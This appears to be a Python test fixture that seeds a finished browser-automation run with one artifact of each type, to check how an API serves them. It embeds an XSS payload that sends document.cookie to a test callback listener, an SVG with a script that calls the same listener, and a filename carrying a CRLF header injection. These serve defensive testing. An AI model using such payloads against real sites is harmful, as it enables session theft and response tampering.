"""A finished run with one artifact of every kind the API serves (a PNG screenshot, a PDF and
an SVG download, a scraped HTML page, a WebM recording), stored the way the executor stores
them: bytes in the run's artifact store, an ArtifactStored event in its log."""

from __future__ import annotations

import os
import struct
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from skyvern.client import Skyvern as SkyvernClient

from altostratus.domain import events as ev
from altostratus.domain.enums import ArtifactType, Engine, StepStatus
from altostratus.ports.artifacts import ArtifactStore
from altostratus.ports.event_log import EventLog
from altostratus.runtimes.local import LocalRuntime, build_local
from altostratus.runtimes.settings import Settings
from tests.support.runs import created, d
from tests.support.server import RunningServer, alto, alto_serve

# A script that, were it ever run on the API origin, would be seen: it changes the title and
# calls back to a listener the test runs ({{CALLBACK}} is replaced with its address).
XSS_HTML = (
    "<!doctype html><html><head><title>scraped page</title></head><body><h1>$3</h1>"
    "<script>document.title='pwned';fetch('{{CALLBACK}}/script?c='+encodeURIComponent(document.cookie))"
    "</script><img src='{{CALLBACK}}/img'></body></html>"
)
XSS_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>'
    "fetch('{{CALLBACK}}/svg')</script><rect width='10' height='10'/></svg>"
)


def png(width: int = 3, height: int = 2) -> bytes:
    """A valid RGB PNG whose pixel bytes run through 0x00-0xff (so they are not UTF-8)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(
        b"\x00" + bytes((x * 97 + y * 131 + 200) % 256 for x in range(width * 3)) for y in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    )


def webm(size: int = 64 * 1024) -> bytes:
    """A recording's bytes: an EBML header, then noise, long enough to ask for ranges of."""
    return b"\x1a\x45\xdf\xa3" + os.urandom(size - 4)


@dataclass(frozen=True)
class StoredArtifact:
    artifact_id: str
    artifact_type: ArtifactType
    content_type: str
    data: bytes
    filename: str | None = None


@dataclass
class SeededRun:
    run_id: str
    org_id: str
    artifacts: dict[str, StoredArtifact] = field(default_factory=dict)


def seed_run(
    event_log: EventLog,
    artifacts: ArtifactStore,
    *,
    org_id: str,
    run_id: str,
    number: Callable[[], int],
    callback: str = "http://127.0.0.1:9",
    webhook_url: str | None = None,
    api_key_id: str | None = None,
) -> SeededRun:
    """A completed run of `org_id` holding one artifact of each kind; `number()` gives ids.
    `api_key_id` names the key that signs its webhook."""
    start = created(org_id, engine=Engine.SKYVERN_V2, webhook_url=webhook_url)
    assert isinstance(start.data, ev.RunCreated)
    start = d(start.data.model_copy(update={"api_key_id": api_key_id}))
    event_log.append(run_id, [start, d(ev.RunQueued()), d(ev.RunStarted())])
    wanted = {
        "png": (ArtifactType.SCREENSHOT_FINAL, "image/png", png(), None),
        "pdf": (ArtifactType.DOWNLOAD, "application/pdf", pdf(), "invoice \u00e9t\u00e9 2026.pdf"),
        "html": (
            ArtifactType.HTML_SCRAPE,
            "text/html",
            XSS_HTML.replace("{{CALLBACK}}", callback).encode(),
            None,
        ),
        "svg": (
            ArtifactType.DOWNLOAD,
            "image/svg+xml",
            XSS_SVG.replace("{{CALLBACK}}", callback).encode(),
            'logo"\r\nX-Injected: 1.svg',
        ),
        "webm": (ArtifactType.RECORDING, "video/webm", webm(), None),
    }
    seeded = SeededRun(run_id=run_id, org_id=org_id)
    # One AI step, so the run has a timeline.
    drafts = [
        d(ev.StepStarted(step_id="stp_1", order=1, url="https://shop.example.com/")),
        d(
            ev.ActionPlanned(
                step_id="stp_1",
                action_order=1,
                action_type="click",
                tool="click",
                reasoning="The price is behind this tab",
                element_id="e1",
            )
        ),
        d(ev.ActionExecuted(step_id="stp_1", action_order=1, status="completed", summary="tab opened")),
        d(ev.StepFinished(step_id="stp_1", status=StepStatus.COMPLETED, usage=ev.Usage(input_tokens=10))),
    ]
    for name, (kind, content_type, data, filename) in wanted.items():
        artifact_id = f"a_{number()}"
        uri = artifacts.put(f"{org_id}/{run_id}/{artifact_id}.{name}", data, content_type=content_type)
        seeded.artifacts[name] = StoredArtifact(artifact_id, kind, content_type, data, filename)
        drafts.append(
            d(
                ev.ArtifactStored(
                    artifact_id=artifact_id,
                    artifact_type=kind,
                    uri=uri,
                    content_type=content_type,
                    file_size=len(data),
                    filename=filename,
                )
            )
        )
    event_log.append(run_id, [*drafts, d(ev.RunCompleted(output={"price": "$3"}))])
    return seeded


@dataclass
class SeededServer:
    """`alto serve` (API only) with an organization, its key, and a seeded finished run."""

    server: RunningServer
    key: str
    store: LocalRuntime  # the same data directory, to append events and store bytes
    run: SeededRun

    @property
    def base_url(self) -> str:
        return self.server.base_url

    def client(self, key: str | None = None) -> SkyvernClient:
        return SkyvernClient(base_url=self.server.base_url, api_key=key or self.key, timeout=30)


@contextmanager
def seeded_server(
    data_dir: Path, *, callback: str = "http://127.0.0.1:9", webhook_url: str | None = None
) -> Iterator[SeededServer]:
    """`webhook_url` (on 127.0.0.1, which the server is told to allow) receives the seeded
    run's webhook once the server sees it finish."""
    key = alto("keys", "create", "--org", "security", data_dir=data_dir).strip()
    env = {"ALTO_ALLOWED_TARGETS": "127.0.0.1"} if webhook_url else None
    with alto_serve(data_dir, api_only=True, env=env) as server:
        store = build_local(Settings(data_dir=data_dir))
        try:
            caller = store.keys.authenticate(key)
            assert caller is not None
            run = seed_run(
                store.event_log,
                store.artifacts,
                org_id=caller.org_id,
                run_id=f"tsk_v2_{store.ids.number()}",
                number=store.ids.number,
                callback=callback,
                webhook_url=webhook_url,
                api_key_id=caller.key_id,
            )
            yield SeededServer(server=server, key=key, store=store, run=run)
        finally:
            store.close()
